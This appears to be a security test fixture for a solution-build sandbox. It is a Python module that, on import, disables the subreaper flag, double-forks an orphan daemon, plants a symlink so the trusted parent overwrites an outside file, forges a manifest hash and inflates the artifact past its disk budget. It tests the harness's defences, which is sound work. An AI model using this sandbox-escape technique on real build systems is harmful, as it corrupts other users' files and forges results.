"""Class: build-time code / a process that outlives the build (subreaper turned off) and edits
the build directory after the trusted parent has checked it.

Tries, while the build imports the module: turn off the build child's own subreaper flag
(`prctl(PR_SET_CHILD_SUBREAPER, 0)`: prctl is not in the seccomp filter), then double-fork a
daemon into a session of its own. Its orphan goes to init, not back to the build child, so
`confine.kill_leftovers` (the build child's children only) never sees it: the build ends
normally and the daemon lives on in the build's Landlock domain, which still lets it write the
build directory after the parent published it as the artifact (the rule follows the directory
through the rename; so does its cwd). It then
(a) waits for the parent's `sanitize_build_dir` (a planted canary symlink disappears) and
    plants `manifest.json` as a symlink to `__VICTIM__`: `cache.publish` writes the manifest
    through it, the unconfined parent overwrites a file outside the build (another solution's
    source, a trace file), and `read_manifest` then reads it back from there;
(b) after publishing, rewrites the manifest (forged `hash` `__VICTIM_HASH__`: a later cache hit
    of this solution carries another solution's build hash, its runner key in the worker);
(c) grows the published artifact past the disk budget the parent checked (`_over_budget`);
(d) keeps running for __SECONDS__ s (a CPU burner beside later measurements would do as well).
Expect: no process of the build left once `build()` returns; the victim, the manifest and the
artifact as the parent left them.
"""
import ctypes
import json
import os
import time

os.chdir(os.getcwd())  # the cwd as the writable bind mount sees it (the old one is read-only)
VICTIM = "__VICTIM__"
SECONDS = float("__SECONDS__")
os.symlink("/nonexistent", "canary")
libc = ctypes.CDLL(None, use_errno=True)
r = libc.prctl(36, 0, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER off
print(f"prctl(PR_SET_CHILD_SUBREAPER, 0) = {r} errno {ctypes.get_errno()}", flush=True)


def daemon() -> None:
    log = os.open("daemon.txt", os.O_WRONLY | os.O_CREAT, 0o644)
    state = {"pid": os.getpid(), "planted": None, "forged": None, "grown_mb": 0}

    def note() -> None:
        os.pwrite(log, (json.dumps({**state, "alive": round(time.time(), 3)}) + "\n").ljust(300).encode(), 0)

    end = time.monotonic() + SECONDS
    while os.path.lexists("canary") and time.monotonic() < end:
        pass  # the parent's sanitize_build_dir removes it, then reads and publishes
    try:
        os.symlink(VICTIM, "manifest.json")
        state["planted"] = round(time.time(), 6)
    except OSError as e:
        state["planted"] = f"failed {e}"
    note()
    while time.monotonic() < end:
        note()
        if state["forged"] is None and os.path.exists("manifest.json") and not os.path.isdir("_build"):
            time.sleep(0.5)  # published and read back by the parent: now rewrite it
            try:
                try:
                    man = json.load(open("manifest.json"))
                except OSError:  # (a) won: the manifest lives in the victim, which Landlock hides from us
                    h = os.path.basename(os.getcwd())
                    man = {"status": "OK", "hash": h, "language": "python", "package": f"fib_python_{h[:16]}",
                           "entry_point": "main.py::run", "destination_passing_style": False, "binding": None,
                           "toolchain": {}, "loadable_here": True}
                man["hash"] = "__VICTIM_HASH__"
                man["built_by"] = {"solution": "FORGED_BY_BUILD_DAEMON", "definition": "x"}
                with open("manifest.json.new", "w") as f:
                    json.dump(man, f)
                os.rename("manifest.json.new", "manifest.json")
                state["forged"] = round(time.time(), 3)
                for k in range(int("__GROW_FILES__")):  # past the budget checked before publishing
                    with open(f"grown{k}.bin", "wb") as f:
                        f.write(b"\1" * (8 << 20))
                    state["grown_mb"] += 8
            except (OSError, ValueError) as e:
                state["forged"] = f"failed {e}"
        time.sleep(0.05)


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        print("DAEMON PID", os.getpid(), flush=True)
        daemon()
        os._exit(0)
    os._exit(0)
os.wait()


def run(x, weight, eps):
    xf = x.float()
    return (xf * __import__("torch").rsqrt(xf.pow(2).mean(-1, keepdim=True) + eps) * weight.float()).half()
